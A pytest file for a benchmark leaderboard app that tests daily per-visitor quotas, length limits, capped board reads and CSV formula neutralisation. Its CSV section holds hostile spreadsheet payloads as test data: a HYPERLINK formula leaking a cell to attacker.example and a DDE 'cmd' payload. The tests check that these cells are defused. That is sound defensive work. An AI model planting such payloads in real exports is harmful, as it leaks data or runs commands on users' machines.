"""Issue 27, items 3 and 4: one visitor must not flood the shared board, and no CSV the app writes may carry a
spreadsheet formula.

The real app is driven with gradio_client (public mode for the per-visitor quotas: each Client is one visitor,
or names itself with owner_token); runs go to the scripted OpenAI-compatible server; the quotas count a real
SQLite store by a clock the test moves by hand (read once from the store's own times, never asserted on)."""

from __future__ import annotations

import csv
import json
import math
import re
import sqlite3
from collections.abc import Iterator
from contextlib import contextmanager
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pandas as pd
import pytest
from gradio_client import Client, handle_file

from evaluators.core.csv_files import neutralised, write_csv
from evaluators.core.errors import ToolboardError
from evaluators.core.limits import MAX_FILE_NAME_CHARS, MAX_MODEL_NAME_CHARS, MAX_NOTES_CHARS, TextTooLongError
from evaluators.engine.store import Store
from evaluators.service.app_services import PUBLIC_MAX_RUNS_PER_DAY, PUBLIC_MAX_UPLOADS_PER_DAY, admission_for
from evaluators.service.board import MAX_BOARD_ROWS, board_rows
from evaluators.service.quota import DAY_SECONDS, Admission, QuotaReached
from evaluators.service.submissions import check_submission, store_submission
from tests.acebench_fixtures import EXAMPLE_DIR
from tests.app_fixtures import RunningApp, items_copy, running_app, table_rows, wait_for_status, write_predictions
from tests.browser_fixtures import CHROMIUM, add_answer, browser_page, check_example_predictions, open_tab

PROJECT = Path(__file__).resolve().parents[1]
SAMPLES = 12
ALL_SOURCES = ["published", "evaluated", "uploaded"]


class ManualClock:
    """The wall clock the quotas count by; it moves only when the test says so."""

    def __init__(self, now: float) -> None:
        self.now = now

    def __call__(self) -> float:
        return self.now


@contextmanager
def public_app(root: Path, admission: Admission) -> Iterator[RunningApp]:
    """The app as a public Space runs it (the operator's data folder; 127.0.0.1 endpoints are allowed only
    because TOOLBOARD_PUBLIC is unset), with the given limits."""
    with running_app(root, public=True, samples=SAMPLES, data_is_default=True, admission=admission) as app:
        yield app


def start(client: Client, app: RunningApp, model: str, **extra: Any) -> dict[str, str]:
    return client.predict(base_url=app.server.base_url, model=model, benchmark="acebench", language="en",
                          subsets=["normal_atom_bool"], data_source="download", limit=3, concurrency=2,
                          api_name="/start_run", **extra)


def check_example(client: Client, folder: Path | None = None) -> dict[str, Any]:
    """Check the example's predictions on the built-in example, or on `folder` (a row scored on the built-in example
    never joins the board)."""
    source, given = ("local folder", str(folder)) if folder is not None else ("built-in example", "")
    validation, _, message = client.predict(handle_file(str(EXAMPLE_DIR / "predictions.jsonl")), "acebench", "en",
                                            source, given, api_name="/check_upload")
    assert validation and validation["ok"], message
    return validation


def add(client: Client, model: str, notes: str = "", **extra: Any) -> str:
    return str(client.predict(model, notes, api_name="/add_upload", **extra))


def next_slot(first_created: float) -> tuple[float, str]:
    """When the first counted run leaves the 24-hour window, rounded up to the minute, and that minute as the
    message writes it."""
    minute = math.ceil((first_created + DAY_SECONDS) / 60) * 60
    return minute, f"{datetime.fromtimestamp(minute, UTC):%Y-%m-%d %H:%M} UTC"


def runs(store: Store) -> int:
    return len(store.list_runs())


# ---- item 3a: daily quotas per visitor -------------------------------------------------------------------------


@pytest.mark.slow
def test_the_runs_quota_refuses_a_visitors_start_saying_the_limit_the_setting_and_when_a_slot_frees(tmp_path: Path):
    clock = ManualClock(0.0)
    admission = Admission(max_active=4, max_active_per_owner=1, max_runs_per_day=2, now=clock)
    with public_app(tmp_path, admission) as app:
        alice, bob = Client(app.url, verbose=False), Client(app.url, verbose=False)
        started = []
        for name in ("alice-1", "alice-2"):
            outcome = start(alice, app, name)
            assert outcome["run_id"], outcome["message"]
            assert wait_for_status(app.context, outcome["run_id"], ("finished",)) == "finished"
            started.append(outcome["run_id"])
        first = app.context.store.get_run(started[0])
        minute, shown = next_slot(first.created_at)
        clock.now = minute - DAY_SECONDS + 90  # both runs inside the window; the slot frees 23 h 58.5 min later
        before = runs(app.context.store)
        refused = start(alice, app, "alice-3")
        message = refused["message"]
        assert refused["run_id"] == "" and runs(app.context.store) == before
        assert "you have started 2 runs in the last 24 hours" in message
        assert "TOOLBOARD_MAX_RUNS_PER_DAY=2" in message
        assert f"the next one can be started at {shown} (in 23 h 59 min)" in message
        # Another visitor has a quota of their own.
        other = start(bob, app, "bob-1")
        assert other["run_id"], other["message"]
        wait_for_status(app.context, other["run_id"], ("finished",))
        # Once the oldest run is 24 hours old, a slot frees (the store is counted: nothing kept in memory).
        clock.now = minute + 1
        later = start(alice, app, "alice-3")
        assert later["run_id"], later["message"]
        wait_for_status(app.context, later["run_id"], ("finished",))


def test_the_queue_mode_admission_counts_the_same_quota(tmp_path: Path):
    """QueueJobs' admission check (the one queue-mode start, resume and re-send go through) applies the quota of
    the shared Admission, counted from the store; no broker is needed to reach it."""
    from evaluators.engine.queue_jobs import QueueJobs

    store = Store(tmp_path / "t.db")
    store.create_run("acebench", "en", "m", "http://x/v1", {}, "f", 3, owner="alice")
    created = store.list_runs()[0].created_at
    jobs = QueueJobs.__new__(QueueJobs)  # only what the admission check reads
    jobs.store, jobs._jobs = store, {}
    jobs.admission = Admission(max_runs_per_day=1, now=ManualClock(created + 10))
    with pytest.raises(QuotaReached, match=r"TOOLBOARD_MAX_RUNS_PER_DAY=1"):
        jobs._check_admission("alice")
    jobs._check_admission("bob")
    jobs.admission = Admission(max_runs_per_day=1, now=ManualClock(created + DAY_SECONDS + 1))
    jobs._check_admission("alice")


@pytest.mark.slow
def test_the_uploads_quota_counts_per_visitor_or_owner_token_and_keeps_the_checked_file(tmp_path: Path):
    clock = ManualClock(0.0)
    with public_app(tmp_path, Admission(max_uploads_per_day=2, now=clock)) as app:
        store = app.context.store
        alice, bob = Client(app.url, verbose=False), Client(app.url, verbose=False)
        for name in ("alice upload 1", "alice upload 2"):
            check_example(alice)
            assert "Added as run" in add(alice, name)
        first = min(run.created_at for run in store.list_runs())
        minute, shown = next_slot(first)
        clock.now = minute - DAY_SECONDS + 90
        check_example(alice)
        before = runs(store)
        message = add(alice, "alice upload 3")
        assert "Added" not in message and runs(store) == before
        assert "you have added 2 uploads to the board in the last 24 hours" in message
        assert "TOOLBOARD_MAX_UPLOADS_PER_DAY=2" in message
        assert f"the next one can be added at {shown} (in 23 h 59 min)" in message
        # Every upload is still shown to everyone (shared), though counted as its visitor's.
        assert all(run.shared and run.owner for run in store.list_runs())
        check_example(bob)
        assert "Added as run" in add(bob, "bob upload 1")
        # An owner_token is one visitor whatever session it comes from.
        token = "flood-test-token-0123456789"
        one, two = Client(app.url, verbose=False), Client(app.url, verbose=False)
        for client, name in ((one, "token upload 1"), (two, "token upload 2")):
            check_example(client)
            assert "Added as run" in add(client, name, owner_token=token)
        check_example(one)
        assert "TOOLBOARD_MAX_UPLOADS_PER_DAY=2" in add(one, "token upload 3", owner_token=token)
        # Alice's refused file stays checked: added once a slot has freed.
        clock.now = minute + 1
        assert "Added as run" in add(alice, "alice upload 3")


def test_quota_settings_public_defaults_private_none_and_env_values():
    public, private = admission_for(True, {}), admission_for(False, {})
    assert (public.max_runs_per_day, public.max_uploads_per_day) == (PUBLIC_MAX_RUNS_PER_DAY, PUBLIC_MAX_UPLOADS_PER_DAY)
    assert (PUBLIC_MAX_RUNS_PER_DAY, PUBLIC_MAX_UPLOADS_PER_DAY) == (20, 10)
    assert (private.max_runs_per_day, private.max_uploads_per_day) == (None, None)
    assert public.max_active == 4 and public.max_active_per_owner == 1  # the other public limits stay
    chosen = admission_for(False, {"TOOLBOARD_MAX_RUNS_PER_DAY": "5", "TOOLBOARD_MAX_UPLOADS_PER_DAY": "0"})
    assert (chosen.max_runs_per_day, chosen.max_uploads_per_day) == (5, 0)
    lifted = admission_for(True, {"TOOLBOARD_MAX_RUNS_PER_DAY": "off", "TOOLBOARD_MAX_UPLOADS_PER_DAY": " "})
    assert (lifted.max_runs_per_day, lifted.max_uploads_per_day) == (None, PUBLIC_MAX_UPLOADS_PER_DAY)
    with pytest.raises(ToolboardError, match="TOOLBOARD_MAX_UPLOADS_PER_DAY must be a whole number"):
        admission_for(True, {"TOOLBOARD_MAX_UPLOADS_PER_DAY": "ten"})


def test_a_private_deployment_with_a_quota_counts_everyone_together_and_zero_accepts_none(tmp_path: Path):
    store = Store(tmp_path / "t.db")
    submission = check_submission(EXAMPLE_DIR / "predictions.jsonl", "acebench", language="en", data_dir=EXAMPLE_DIR)
    clock = ManualClock(0.0)
    admission = Admission(max_uploads_per_day=1, now=clock)
    store_submission(store, submission, "first", admission=admission)
    clock.now = store.list_runs()[0].created_at + 60
    with pytest.raises(QuotaReached, match=r"1 upload was added to the board on this deployment in the last 24 hours"):
        store_submission(store, submission, "second", admission=admission)
    with pytest.raises(QuotaReached, match=r"this deployment accepts no uploads \(TOOLBOARD_MAX_UPLOADS_PER_DAY=0\)"):
        store_submission(store, submission, "third", admission=Admission(max_uploads_per_day=0, now=clock))
    assert [run.model for run in store.list_runs()] == ["first"]


# ---- item 3b: length limits on free text ------------------------------------------------------------------------


@pytest.mark.slow
def test_over_long_model_name_notes_and_file_name_are_refused_before_anything_is_stored(tmp_path: Path):
    with running_app(tmp_path / "app") as app:
        client = Client(app.url, verbose=False)
        store = app.context.store
        check_example(client)
        before = runs(store)
        for model, notes, field, length, limit in (
                ("m" * (MAX_MODEL_NAME_CHARS + 1), "", "the model name", MAX_MODEL_NAME_CHARS + 1, MAX_MODEL_NAME_CHARS),
                ("n" * 2_000_000, "", "the model name", 2_000_000, MAX_MODEL_NAME_CHARS),
                ("fine", "x" * (MAX_NOTES_CHARS + 1), "the notes field", MAX_NOTES_CHARS + 1, MAX_NOTES_CHARS)):
            message = add(client, model, notes)
            assert f"{field} is {length:,} characters long; at most {limit:,} are accepted" in message
            assert "nothing was stored" in message and "Added" not in message
            assert len(message) < 400  # the over-long text is not echoed back
        assert runs(store) == before
        # The refused file stays checked: at the limits exactly, it is added.
        added = add(client, "m" * MAX_MODEL_NAME_CHARS, "x" * MAX_NOTES_CHARS)
        assert "Added as run" in added and runs(store) == before + 1
        # A file name over its limit is refused when the file is checked, before anything is read or stored.
        long_name = write_predictions(tmp_path / ("p" * (MAX_FILE_NAME_CHARS + 1) + ".jsonl"),
                                      [json.dumps(row) for row in _example_rows()])
        with pytest.raises(TextTooLongError, match=f"the file name is {MAX_FILE_NAME_CHARS + 7:,} characters long; at "
                                                   f"most {MAX_FILE_NAME_CHARS} are accepted: rename the file"):
            check_submission(long_name, "acebench", language="en", data_dir=EXAMPLE_DIR)
        # Through the app, Gradio already shortens an uploaded file's name to 200 bytes: what is kept fits the limit.
        validation, _, message = client.predict(handle_file(str(long_name)), "acebench", "en", "built-in example", "",
                                                api_name="/check_upload")
        assert validation and validation["ok"], message
        run_id = re.search(r"Added as run (\S+):", add(client, "long file name")).group(1)
        kept = re.search(r"uploaded (\S+):", store.get_run(run_id).message).group(1)
        assert kept.startswith("ppp") and len(kept) <= MAX_FILE_NAME_CHARS


def test_store_submission_checks_the_limits_itself(tmp_path: Path):
    """The library call every front door goes through refuses too (nothing stored), whoever calls it."""
    store = Store(tmp_path / "t.db")
    submission = check_submission(EXAMPLE_DIR / "predictions.jsonl", "acebench", language="en", data_dir=EXAMPLE_DIR)
    with pytest.raises(TextTooLongError, match="the model name is 201 characters long"):
        store_submission(store, submission, "m" * 201)
    with pytest.raises(TextTooLongError, match="the notes field is 2,001 characters long"):
        store_submission(store, submission, "ok", "x" * 2001)
    assert store.list_runs() == []


def _example_rows() -> list[dict[str, Any]]:
    return [json.loads(line) for line in (EXAMPLE_DIR / "predictions.jsonl").read_text(encoding="utf-8").splitlines()
            if line.strip()]


# ---- item 3c: bounded board reads --------------------------------------------------------------------------------


def flood(store: Store, count: int, prefix: str = "flood") -> list[str]:
    """`count` uploads of the example's predictions on a copy of its items under distinct names (one not-ranked row
    each in the en view)."""
    submission = check_submission(EXAMPLE_DIR / "predictions.jsonl", "acebench", language="en", data_dir=items_copy(store))
    return [store_submission(store, submission, f"{prefix}-{index:04d}", "flood notes") for index in range(count)]


@pytest.mark.slow
def test_a_board_over_the_cap_sends_at_most_the_cap_ranked_rows_first_and_says_how_many_more(tmp_path: Path):
    extra = 37
    with running_app(tmp_path / "app") as app:
        store = app.context.store
        ids = flood(store, MAX_BOARD_ROWS + extra)
        # A row an older version stored: a 2 MB name and 2 MB notes (no limits then).
        with sqlite3.connect(app.db_path) as db:
            db.execute("UPDATE runs SET model=?, notes=? WHERE id=?", ("H" * 2_000_000, "N" * 2_000_000, ids[0]))
        app.context.store.create_run("acebench", "en", "bump", "upload", {}, "f", 1, source="upload")  # board changed
        client = Client(app.url, verbose=False)
        args = ("acebench", "", "", ALL_SOURCES, ["normal", "overall"], False, "official", "overall")
        whole = board_rows("acebench", store)
        published = int((whole["source"] == "published").sum())
        result = client.predict(*args, api_name="/leaderboard")
        rows = table_rows(result)
        total = published + MAX_BOARD_ROWS + extra
        assert len(rows) == MAX_BOARD_ROWS and result["total_rows"] == total
        assert result["more_rows"] == total - MAX_BOARD_ROWS
        assert f"{MAX_BOARD_ROWS:,} of {total:,} rows (ranked rows first" in result["note"]
        assert f"{total - MAX_BOARD_ROWS:,} more are not. Narrow with search" in result["note"]
        # The ranked rows come first, all of them; the not-ranked rows fill the rest.
        ranked = [row for row in rows if not row["apart_reason"]]
        assert len(ranked) == published and rows[:published] == ranked
        assert len(json.dumps(result)) < 300_000  # one read stays small however many rows (and bytes) are stored
        apart = client.predict(*args, api_name="/leaderboard_apart")
        assert len(apart["data"]) == MAX_BOARD_ROWS and apart["more_rows"] == MAX_BOARD_ROWS + extra - MAX_BOARD_ROWS
        ranked_only = client.predict(*args, api_name="/leaderboard_ranked")
        assert ranked_only["more_rows"] == 0 and ranked_only["note"] == ""
        # Searching narrows to the rows asked for, under the cap.
        found = client.predict("acebench", "", "flood-0236", ALL_SOURCES, ["overall"], False, "official", "overall",
                               api_name="/leaderboard")
        assert [row["model"] for row in table_rows(found)] == ["flood-0236"] and found["more_rows"] == 0
        # The old over-long row is cut, never sent whole.
        cut = [row for row in table_rows(client.predict("acebench", "", "HHHH", ALL_SOURCES, ["overall"], False,
                                                        "official", "overall", api_name="/leaderboard"))]
        assert len(cut) == 1 and len(cut[0]["model"]) == MAX_MODEL_NAME_CHARS and cut[0]["model"].endswith("…")
        assert len(cut[0]["details"]) <= MAX_NOTES_CHARS
        # The page's tables: each at most the cap, with the line saying how many more and how to narrow.
        from ui.leaderboard_tab import default_state, drawn_view

        shown = drawn_view(app.context, default_state()).html
        ranked_rows = int((whole[whole["view"] == "en"]["source"] == "published").sum())
        assert f"Ranked · {ranked_rows} rows" in shown and f"· {MAX_BOARD_ROWS} rows" in shown  # the en view: every upload
        assert f"{extra} more not-ranked rows are not shown ({MAX_BOARD_ROWS} of {MAX_BOARD_ROWS + extra} are" in shown
        assert "filters (language, sources" in shown and "more ranked rows" not in shown
        # The downloads hold every row of the view.
        path = client.predict(*args, api_name="/download_csv")
        with open(path, encoding="utf-8", newline="") as handle:
            assert len(list(csv.DictReader(handle))) == total


# ---- item 4: CSV cells that a spreadsheet would run -------------------------------------------------------------


HOSTILE_NAME = '=HYPERLINK("http://attacker.example/?leak="&A1,"click me")'
HOSTILE_NOTES = "+cmd|' /C calc'!A0"


@pytest.mark.slow
def test_csv_download_neutralises_formula_cells_while_json_stays_exact(tmp_path: Path):
    with running_app(tmp_path / "app") as app:
        client = Client(app.url, verbose=False)
        items = items_copy(app.context.store)
        check_example(client, items)
        assert "Added as run" in add(client, HOSTILE_NAME, HOSTILE_NOTES)
        for name, notes in (("@SUM(1+1)*cmd", "-2+3"), ("-1 model", "@notes"), ("plain-model", "a = 1 + 1")):
            check_example(client, items)
            assert "Added as run" in add(client, name, notes)
        args = ("acebench", "en", "", ALL_SOURCES, ["normal", "overall"], False, "official", "overall")
        with open(client.predict(*args, api_name="/download_csv"), encoding="utf-8", newline="") as handle:
            rows = {row["run_id"]: row for row in csv.DictReader(handle)}
        records = json.loads(Path(client.predict(*args, api_name="/download_json")).read_text(encoding="utf-8"))
        exact = {record["run_id"]: record for record in records}
        uploaded = {run_id: row for run_id, row in rows.items() if row["source"] == "uploaded"}
        assert len(uploaded) == 4
        for run_id, row in uploaded.items():
            for column in ("model", "details"):
                original = exact[run_id][column]
                if original.lstrip(" \t\r\n")[:1] in ("=", "+", "-", "@") or original[:1] in ("\t", "\r"):
                    assert row[column] == "'" + original  # a spreadsheet shows it as text
                else:
                    assert row[column] == original
            assert float(row["overall"]) == pytest.approx(exact[run_id]["overall"])  # numbers stay numbers
        assert {record["model"] for record in records} >= {HOSTILE_NAME, "@SUM(1+1)*cmd", "-1 model"}  # JSON: exact
        assert any(record["details"] == HOSTILE_NOTES for record in records)


def test_write_csv_neutralises_only_text_cells(tmp_path: Path):
    frame = pd.DataFrame({"model": ["=1+1", "-5", "ok", None, "\tx", "a=b"],
                          "delta": [-5.0, -0.5, 1.0, None, 0.0, 2.0],
                          "n": pd.Series([-3, 4, None, 1, 2, 3], dtype=object)})
    path = write_csv(frame, tmp_path / "out.csv")
    lines = path.read_text(encoding="utf-8").splitlines()
    assert lines[0] == "model,delta,n"
    assert lines[1:] == ["'=1+1,-5.0,-3", "'-5,-0.5,4", "ok,1.0,", ",,1", "'\tx,0.0,2", "a=b,2.0,3"]
    assert neutralised(-5) == -5 and neutralised("") == "" and neutralised(" -1") == "' -1"
    assert [neutralised(text) for text in ("@SUM(A1)", "+1", "\r1", "\n=1", "x-1")] == ["'@SUM(A1)", "'+1", "'\r1",
                                                                                       "'\n=1", "x-1"]


def test_every_csv_the_app_or_cli_writes_goes_through_the_one_writer():
    """No CSV writer but evaluators/core/csv_files.py: a new one must use write_csv (and so neutralise formulas)."""
    writers = re.compile(r"\.to_csv\(|csv\.writer\(|csv\.DictWriter\(")
    found = [str(path.relative_to(PROJECT)) for folder in ("evaluators", "ui") for path in (PROJECT / folder).rglob("*.py")
             if writers.search(path.read_text(encoding="utf-8"))]
    found += ["app.py"] if writers.search((PROJECT / "app.py").read_text(encoding="utf-8")) else []
    assert found == ["evaluators/core/csv_files.py"]


# ---- the page: a browser's visitor token is what its uploads count against ---------------------------------------


def add_in_the_page(page: Any, model: str) -> None:
    open_tab(page, "Submit")
    check_example_predictions(page)
    page.get_by_label("Model name").fill(model)
    page.get_by_role("button", name="Add to leaderboard").click()


@pytest.mark.skipif(not Path(CHROMIUM).exists(), reason=f"no Chromium at {CHROMIUM} (apt-get install chromium)")
def test_a_browser_keeps_its_upload_quota_across_reloads(tmp_path: Path):
    """The page's Add counts against the browser's stored visitor token, not its session: a reload (a new session)
    does not start a new quota; the refusal is shown in the page and nothing is stored."""
    with public_app(tmp_path, Admission(max_uploads_per_day=1)) as app, browser_page() as (page, problems):
        page.goto(app.url, wait_until="load")
        add_in_the_page(page, "browser upload 1")
        add_answer(page, "^Added as run")
        page.reload(wait_until="load")
        add_in_the_page(page, "browser upload 2")
        refused = add_answer(page, "^⚠️")
        assert "TOOLBOARD_MAX_UPLOADS_PER_DAY=1" in refused, refused
        assert [run.model for run in app.context.store.list_runs()] == ["browser upload 1"]
        assert not [problem for problem in problems if "page error" in problem], problems
